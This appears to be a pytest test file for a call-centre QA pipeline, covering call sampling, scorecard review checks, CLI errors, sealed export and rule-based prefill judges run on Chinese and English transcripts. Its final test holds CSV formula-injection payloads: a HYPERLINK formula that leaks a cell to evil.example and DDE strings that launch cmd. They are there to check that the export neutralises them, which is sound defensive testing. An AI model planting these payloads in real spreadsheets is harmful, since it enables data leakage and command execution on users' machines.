"""QA sampling on a real DuckDB file, and scorecard prefill on the analysed sample calls."""
import io
import json
import re
import shutil
from datetime import datetime, timedelta
from pathlib import Path

import pandas as pd
import pytest

from pipeline.config.keys import unseal
from pipeline.outputs.qa import (
    CallView,
    QAError,
    SamplingPlan,
    TurnView,
    draw_sample,
    export_sample,
    prefill_scorecard,
    prefill_view,
    record_review,
    scorecard_items,
    store_sample,
    view_from_turns,
    why_empty,
)
from pipeline.store import Store

AGENTS = ["A1", "A2", "A3", "A4", "A5"]


@pytest.fixture
def populated(tmp_path):
    """60 analysed calls over 10 days: agent A5 has one call; 3 carry threats; 12 are escalated."""
    store = Store(tmp_path / "qa.duckdb")
    day0 = datetime(2026, 11, 1)
    calls, esc = [], []
    for i in range(60):
        agent = "A5" if i == 59 else AGENTS[i % 4]
        calls.append({"call_id": f"c{i:03d}", "agent_id": agent, "customer_id": f"K{i}", "status": "ok",
                      "started_at": day0 + timedelta(hours=4 * i)})
        flags = ["regulator_threat"] if i in (7, 23, 41) else []
        score = 70.0 if i % 5 == 0 else 10.0
        esc.append({"call_id": f"c{i:03d}", "call_score": score, "flags": json.dumps(flags)})
    store.insert_rows("calls", calls)
    store.insert_rows("escalation", esc)
    yield store
    store.close()


def test_same_seed_same_sample_and_different_seed_differs(populated):
    plan = SamplingPlan(n=20, seed=7)
    a, b = draw_sample(populated, plan), draw_sample(populated, plan)
    assert [(c.call_id, c.stratum) for c in a.calls] == [(c.call_id, c.stratum) for c in b.calls]
    other = draw_sample(populated, SamplingPlan(n=20, seed=8))
    assert {c.call_id for c in other.calls} != {c.call_id for c in a.calls}


def test_strata_are_honoured(populated):
    sample = draw_sample(populated, SamplingPlan(n=20, seed=1, high_escalation_share=0.3))
    by = pd.Series([c.stratum for c in sample.calls]).value_counts().to_dict()
    assert len(sample.calls) == 20
    assert by["flagged"] == 3  # every flagged call
    assert {c.agent_id for c in sample.calls} == set(AGENTS)  # every agent reviewed, A5 by quota
    assert by["high_escalation"] == 6  # 30 % of 20
    assert by["random"] == 20 - 3 - by.get("agent_quota", 0) - 6
    assert all(c.reason for c in sample.calls)


def test_flagged_calls_are_always_in_even_past_n(populated):
    sample = draw_sample(populated, SamplingPlan(n=2, seed=3))
    assert {"c007", "c023", "c041"} <= {c.call_id for c in sample.calls}


def test_date_range_and_no_call_sampled_twice(populated):
    first_week = SamplingPlan(n=10, seed=1, start=datetime(2026, 11, 1), end=datetime(2026, 11, 6))
    first = draw_sample(populated, first_week)
    assert all(datetime(2026, 11, 1) <= populated.query("SELECT started_at FROM calls WHERE call_id = ?", [c.call_id]).iloc[0, 0]
               < datetime(2026, 11, 6) for c in first.calls)
    store_sample(populated, first, {})
    again = draw_sample(populated, SamplingPlan(n=60, seed=1))
    assert not {c.call_id for c in first.calls} & {c.call_id for c in again.calls}
    assert again.n_candidates == 60 - len(first.calls)


def test_export_and_review(populated, tmp_path):
    sample = draw_sample(populated, SamplingPlan(n=5, seed=2))
    store_sample(populated, sample, {})
    call = sample.calls[0].call_id
    every = {i["id"]: "pass" for i in scorecard_items()}  # a review answers every item (n/a where it does not apply)
    assert record_review(populated, sample.sample_id, call, "qa.lee", {**every, "greeting": "pass", "closing": "fail"},
                         "rushed close") is False
    assert record_review(populated, sample.sample_id, call, "qa.lee", {**every, "greeting": "pass", "closing": "pass"}) is True
    record_review(populated, sample.sample_id, call, "qa.kim", {**every, "closing": "fail"})
    reviews = populated.query("SELECT reviewer, scores FROM qa_reviews ORDER BY reviewer")
    assert reviews.reviewer.tolist() == ["qa.kim", "qa.lee"]  # one per reviewer per call; the second updated
    assert json.loads(reviews.scores[1])["closing"] == "pass"
    csv_path, parquet_path = export_sample(populated, sample.sample_id, tmp_path / "out", files="plain")
    exported = pd.read_parquet(parquet_path)
    assert len(pd.read_csv(csv_path)) == len(exported) == len(sample.calls) + 1  # one row per review
    items = [i["id"] for i in scorecard_items()]
    assert {f"prefill_{i}" for i in items} | {f"review_{i}" for i in items} <= set(exported.columns)
    assert "scorecard" not in exported.columns
    rows = exported[exported.call_id == call].set_index("reviewer")
    assert rows.loc["qa.lee", "review_closing"] == "pass" and rows.loc["qa.kim", "review_closing"] == "fail"
    assert set(exported["stratum"]) <= {"flagged", "agent_quota", "high_escalation", "random"}


@pytest.mark.parametrize("scores, message", [
    ({"solution": "meh", "listening": 7}, "solution: 'meh' is not allowed; use one of pass, fail, n/a"),
    ({"charm": "pass"}, "unknown scorecard item 'charm'"),
    ({}, "scores must be a JSON object"),
])
def test_review_values_are_checked_against_the_scorecard(populated, scores, message):
    sample = draw_sample(populated, SamplingPlan(n=3, seed=2))
    store_sample(populated, sample, {})
    with pytest.raises(QAError, match=re.escape(message)):
        record_review(populated, sample.sample_id, sample.calls[0].call_id, "qa.lee", scores)
    every = {i["id"]: "pass" for i in scorecard_items()}
    with pytest.raises(QAError, match="not in sample"):
        record_review(populated, sample.sample_id, "c999", "qa.lee", every)
    with pytest.raises(QAError, match="unknown sample"):
        record_review(populated, "qa-nope", sample.calls[0].call_id, "qa.lee", every)
    with pytest.raises(QAError, match="answer every item"):  # the web and the CLI refuse the same reviews
        record_review(populated, sample.sample_id, sample.calls[0].call_id, "qa.lee", {"greeting": "pass"})
    assert populated.query("SELECT count(*) n FROM qa_reviews").n[0] == 0


def test_an_empty_sample_says_why(populated):
    everything = draw_sample(populated, SamplingPlan(n=60, seed=1))
    store_sample(populated, everything, {})
    again = draw_sample(populated, SamplingPlan(n=2, seed=7))
    assert again.calls == [] and again.n_candidates == 0
    why = why_empty(populated, SamplingPlan(n=2, seed=7))
    assert "all 60" in why and "already sampled" in why and "2026-11-01 00:00 to 2026-11-10 20:00" in why
    december = SamplingPlan(n=2, start=datetime(2026, 12, 1))
    assert why_empty(populated, december).startswith("no processed call started from 2026-12-01")


# --- the CLI: one-line errors, no traceback ----------------------------------------------

def _cli(capsys, *argv):
    from flows.cli import main

    code = main(["qa", *argv])
    out, err = capsys.readouterr()
    return code, out, err


def test_cli_errors_are_one_line_and_export_goes_next_to_the_database(replayed, tmp_path, capsys):
    db = tmp_path / "elsewhere" / "calls.duckdb"
    db.parent.mkdir()
    shutil.copy2(replayed, db)
    code, out, _ = _cli(capsys, "sample", "-n", "2", "--seed", "7", "--db", str(db))
    sample_id = out.split(":")[0]
    assert code == 0 and sample_id.startswith("qa-")
    _cli(capsys, "sample", "-n", "2", "--seed", "7", "--db", str(db))
    code, out, _ = _cli(capsys, "sample", "-n", "2", "--seed", "7", "--db", str(db))
    assert code == 0 and "0 of 0 candidate calls: all 4 processed call(s)" in out and "already sampled" in out
    for scores, expected in [('{"solution":"meh","listening":7}', "solution: 'meh' is not allowed"),
                             ('{"solution": "fail",', "--scores is not valid JSON"),
                             ('{"charm": "pass"}', "unknown scorecard item 'charm'")]:
        code, out, err = _cli(capsys, "review", sample_id, "zh-1001-b", "--reviewer", "qa.lee", "--scores", scores,
                              "--db", str(db))
        assert code == 2 and expected in err and len(err.strip().splitlines()) == 1 and "Traceback" not in err
    every = {i["id"]: "n/a" for i in scorecard_items()}  # a review answers every item
    code, _, err = _cli(capsys, "review", "qa-nope", "zh-1001-b", "--reviewer", "x", "--scores",
                        json.dumps({**every, "closing": "fail"}), "--db", str(db))
    assert code == 2 and "unknown sample 'qa-nope'" in err
    code, _, err = _cli(capsys, "export", "qa-nope", "--db", str(db))
    assert code == 2 and "unknown sample" in err
    code, out, _ = _cli(capsys, "review", sample_id, "zh-1001-b", "--reviewer", "qa.lee", "--scores",
                        json.dumps({**every, "solution": "fail", "empathy_apology": "fail"}), "--db", str(db))
    assert code == 0 and "stored" in out
    code, out, _ = _cli(capsys, "review", sample_id, "zh-1001-b", "--reviewer", "qa.lee", "--scores",
                        json.dumps({**every, "solution": "fail"}), "--db", str(db))
    assert code == 0 and "updated" in out
    code, out, _ = _cli(capsys, "export", sample_id, "--db", str(db))
    paths = [Path(line) for line in out.split()]
    assert code == 0 and all(p.parent == db.parent / "out" / "qa" and p.exists() for p in paths)
    assert [p.name for p in paths] == [f"{sample_id}.csv.enc", f"{sample_id}.parquet.enc"]  # sealed by default
    frame = pd.read_csv(io.BytesIO(unseal(paths[0].read_bytes())))
    assert frame.loc[frame.call_id == "zh-1001-b", "review_solution"].tolist() == ["fail"]
    assert frame.loc[frame.call_id == "zh-1001-b", "prefill_solution"].tolist() == ["fail"]


# --- prefill on the replayed sample calls (stored recognition, real audio, real DuckDB) ---------



def _card(db, call_id):
    with Store(db, read_only=True) as store:
        return {i["item"]: i for i in prefill_scorecard(store, call_id)}


def test_zh_1001_b_wealth_push_button_and_refusal_do_not_pass(replayed):
    card = _card(replayed, "zh-1001-b")
    emp = card["empathy_apology"]
    assert emp["prefill"] == "fail"
    assert any("抱歉" in e["quote"] and e["counts"] == "no" and "refuse" in e["why"] for e in emp["evidence"])
    assert card["explanation"]["prefill"] == "fail"
    assert all(e["counts"] == "no" for e in card["explanation"]["evidence"])  # 因为 about iOS, not the card
    sol = card["solution"]
    assert sol["prefill"] == "fail"
    against = [e for e in sol["evidence"] if e["counts"] == "against"]
    assert any("理财" in e["quote"] for e in against) and len(against) >= 2  # wealth team, then a button
    assert card["listening"]["prefill"] == "fail"  # the customer had to repeat the demand
    assert card["greeting"]["prefill"] == "fail" and card["closing"]["prefill"] == "fail"


def test_en_2002_apologies_answer_complaints_and_the_deadline_promise_fails(replayed):
    card = _card(replayed, "en-2002")
    emp = card["empathy_apology"]
    assert emp["prefill"] == "pass" and all(e["role"] == "agent" for e in emp["evidence"])
    assert any("sorry" in e["quote"].lower() and "complaint" in e["why"] for e in emp["evidence"])
    assert card["improper_promise"]["prefill"] == "fail"
    assert any("within" in e["quote"].lower() for e in card["improper_promise"]["evidence"] if e["counts"] == "against")
    assert card["identity_verification"]["prefill"] == "no evidence"
    assert card["solution"]["prefill"] == "pass" and card["explanation"]["prefill"] == "pass"


def test_the_calm_call_passes_on_evidence(replayed):
    card = _card(replayed, "en-2001")
    assert {k: v["prefill"] for k, v in card.items()} == {k: "pass" for k in card}
    assert card["listening"]["evidence"][-1]["quote"].startswith("customer talk share")


def test_every_answer_rests_on_quoted_evidence_or_says_no_evidence(replayed):
    from evaluation.recognition import stored_ids

    for call_id in stored_ids():
        for answer in _card(replayed, call_id).values():
            assert answer["prefill"] in {"pass", "fail", "n/a", "no evidence"}
            if answer["prefill"] == "no evidence":
                assert answer["note"] and not any(e["counts"] == "for" for e in answer["evidence"])
            if answer["prefill"] == "pass":
                support = [e for e in answer["evidence"] if e["counts"] == "for"]
                assert support and all(e["quote"] and e["why"] for e in support)
                assert any(e.get("time") is not None for e in support) or answer["item"] == "listening"


def test_prefill_agrees_with_the_hand_labels(replayed):
    from evaluation.eval_qa import agreement, load_labels, prefills

    labels = load_labels()
    result = agreement(labels, prefills(replayed, sorted(labels)))
    agree, total = sum(a for a, _, _ in result.values()), sum(n for _, n, _ in result.values())
    assert total == 32 and agree / total >= 0.9, result


# --- the judges on hand-made turns: who said it and where it sits matter ---------------------

def _view(turns, category="card_blocked", **kw):
    return CallView(call_id="t", category=category, demands=(), promises=(), deadline_promises=(),
                    customer_share=0.5, agent_interruptions=0,
                    turns=tuple(TurnView(i, role, start, start + 3, text, cats) for i, (role, start, text, cats)
                                in enumerate(turns)), **kw)


def _item(view, item_id):
    return next(a for a in prefill_view(view) if a["item"] == item_id)


def test_an_apology_counts_only_as_the_agents_and_near_the_complaint():
    customer_sorry = _view([("customer", 0, "对不起打扰了，我的卡被冻结了", ()), ("agent", 4, "请问有什么可以帮您", ())])
    assert _item(customer_sorry, "empathy_apology")["prefill"] == "no evidence"
    answered = _view([("customer", 0, "我的卡被冻结了，很着急", ()), ("agent", 4, "非常抱歉给您带来不便", ())])
    assert _item(answered, "empathy_apology")["prefill"] == "pass"
    late = _view([("customer", 0, "我的卡被冻结了", ()), ("agent", 4, "好的", ()), ("customer", 8, "嗯", ()),
                  ("agent", 60, "非常抱歉", ())])
    assert _item(late, "empathy_apology")["prefill"] == "fail"  # not in answer to the complaint


def test_a_reason_must_be_about_the_problem_and_offers_count_against_the_solution():
    view = _view([("customer", 0, "我的卡被冻结了，我要解冻", ()),
                  ("agent", 4, "因为今天系统升级，我给您推荐一款理财产品", ()),
                  ("agent", 9, "冻结是因为风控核查触发的", ())])
    assert _item(view, "explanation")["prefill"] == "pass"
    assert [e["counts"] for e in _item(view, "explanation")["evidence"]] == ["no", "for"]
    assert _item(view, "solution")["prefill"] == "fail"
    fixed = _view([("customer", 0, "我的卡被冻结了，我要解冻", ()), ("agent", 4, "我帮您提交解冻申请，今天回电", ())])
    assert _item(fixed, "solution")["prefill"] == "pass"
    assert _item(_view([("customer", 0, "hello", ())]), "solution")["prefill"] == "no evidence"




def test_a_plain_transcript_goes_through_the_same_summary_and_judges():
    view = view_from_turns("t", "en", [
        ("agent", 0.5, 3, "Thank you for calling, this is Sam."),
        ("customer", 3.5, 9, "My transfer to my landlord has not arrived and I am furious."),
        ("agent", 9.5, 14, "I am sorry to hear that. I promise the payment will arrive within 24 hours."),
        ("customer", 14.2, 16, "Fine."),
    ])
    assert view.category == "transfer_failed" and 0.3 < view.customer_share < 0.6
    card = {a["item"]: a for a in prefill_view(view)}
    assert card["improper_promise"]["prefill"] == "fail" and card["empathy_apology"]["prefill"] == "pass"
    assert card["closing"]["prefill"] == "fail"


def test_export_csv_cells_cannot_run_as_formulas(populated, tmp_path):
    """A reviewer's comment that a spreadsheet would run is quoted in the CSV; the Parquet keeps it."""
    import csv

    sample = draw_sample(populated, SamplingPlan(n=3, seed=2))
    store_sample(populated, sample, {})
    every = {i["id"]: "pass" for i in scorecard_items()}
    comments = {"qa.lee": '=HYPERLINK("http://evil.example/?leak="&A2,"details")', "qa.kim": "-2+3 cmd|' /C calc'!A0",
                "qa.max": "@SUM(1+1)*cmd|' /C calc'!A0"}
    for reviewer, comment in comments.items():
        record_review(populated, sample.sample_id, sample.calls[0].call_id, reviewer, every, comment)
    csv_path, parquet_path = export_sample(populated, sample.sample_id, tmp_path / "out", files="plain")
    with open(csv_path, newline="", encoding="utf-8") as fh:
        rows = {r["reviewer"]: r for r in csv.DictReader(fh) if r["reviewer"]}
    assert {r: rows[r]["review_comment"] for r in comments} == {r: "'" + c for r, c in comments.items()}
    raw = pd.read_parquet(parquet_path).set_index("reviewer")
    assert raw.loc["qa.lee", "review_comment"] == comments["qa.lee"]
